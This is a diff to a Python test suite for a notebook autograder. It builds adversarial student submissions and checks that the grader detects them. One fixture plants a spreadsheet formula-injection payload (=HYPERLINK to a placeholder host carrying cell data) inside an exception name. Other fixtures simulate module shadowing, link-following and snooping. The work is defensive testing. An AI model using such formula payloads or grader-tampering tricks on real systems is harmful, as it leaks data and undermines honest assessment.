@@ -89,7 +89,7 @@ def generator_ch02():
                       "return (float(np.linalg.det(H[:k, :k])) for k in range(1, H.shape[0] + 1))")
     assert "return (float" in src
     cell_by_id(nb, "sylvester")["source"] = src
-    return nb                                                      # 10
+    return nb                                                      # full marks
 
 
 def link_reader_ch02():
@@ -108,7 +108,7 @@ def csv_injector_ch02():
     _set(nb, "classify", "Formula = type('=HYPERLINK(\"http://example.invalid/?\"&A1)', (Exception,), {})\n\n"
                          "def classify(H, tol=1e-8):\n    if not np.any(H):\n        return 'inconclusive'\n"
                          "    raise Formula('click me')\n")
-    return nb                                                      # 6: classify (4) 0
+    return nb                                                      # 11: classify (1 + 1) 0
 
 
 def flooder_ch03(fmt):
@@ -254,10 +254,10 @@ def slow_ch01():
 # ---------------------------------------------------------------------------------------------------
 
 FULL = {a: sum(points for _, points in course.source_parts(a)[a]) for a in ASSIGNMENTS}
-EXPECTED = {            # full marks, less what the attack costs (classify: 2 + 2 points, fd_hvp: 2 + 1 + 1)
+EXPECTED = {            # full marks, less what the attack costs (classify: 1 + 1 points, fd_hvp: 2 + 1 + 1)
     ("careless", "ch01_definition"): FULL["ch01_definition"], ("private", "ch05_landscapes"): FULL["ch05_landscapes"],
     ("stray", "ch04_optimization"): FULL["ch04_optimization"], ("generator", "ch02_curvature"): FULL["ch02_curvature"],
-    ("links", "ch02_curvature"): FULL["ch02_curvature"], ("injector", "ch02_curvature"): FULL["ch02_curvature"] - 4,
+    ("links", "ch02_curvature"): FULL["ch02_curvature"], ("injector", "ch02_curvature"): FULL["ch02_curvature"] - 2,
     ("flooder", "ch03_hvp"): FULL["ch03_hvp"], ("snoop", "ch03_hvp"): FULL["ch03_hvp"], ("shadow", "ch03_hvp"): 0,
     ("threader", "ch03_hvp"): FULL["ch03_hvp"] - 4, ("helper", "ch01_definition"): 0,
     ("aaa_daemon", "ch04_optimization"): FULL["ch04_optimization"], ("aab_forker", "ch05_landscapes"): FULL["ch05_landscapes"],
@@ -363,7 +363,7 @@ def test_private_attributes_gc_and_stray_metadata_are_honest_work(run):
 
 def test_a_generator_of_right_values_passes_like_the_visible_tests(run):
     row = parts(run, "generator", "ch02_curvature")["test_sylvester"]
-    assert (row.status, row.points) == ("passed", 2.0), row.feedback
+    assert (row.status, row.points) == ("passed", 1.0), row.feedback
 
 
 def test_links_are_not_followed_and_special_files_not_read(run):
@@ -440,8 +440,8 @@ def test_files_beside_the_notebook_are_scanned_and_cannot_shadow_modules(run):
     assert "shadows the module 'hvplib'" in shadow["test_fd_hvp"].tamper
     assert all(r.status == "tampered" for r in shadow.values()), [(r.part, r.status) for r in shadow.values()]
     helper = parts(run, "helper", "ch01_definition")
-    assert helper["test_gradient_f"].status == "failed"              # wrong, checked outside the kernel
-    assert all(r.status == "tampered" for p, r in helper.items() if p != "test_gradient_f")
+    assert helper["test_gradient_yz"].status == "failed"             # ∂f/∂z wrong, checked outside the kernel
+    assert all(r.status == "tampered" for p, r in helper.items() if p != "test_gradient_yz")
     assert "helper.py" in helper["test_hessian_f"].feedback and "numpy.allclose" in helper["test_hessian_f"].tamper
 
 
@@ -504,7 +504,7 @@ def test_a_slow_notebook_runs_out_of_its_budget_alone(tmp_path):
         [(r.part, r.status, r.feedback) for r in slow.values()]
     assert slow["test_errors"].status in ("not run", "timeout") and slow["test_errors"].points == 0
     assert "budget of 30 s" in slow["test_errors"].feedback
-    assert sum(r.points for r in rows if r.student == "zz_honest") == 10
+    assert sum(r.points for r in rows if r.student == "zz_honest") == 12
 
 
 def test_a_notebook_that_never_finished_is_never_passed(tmp_path):
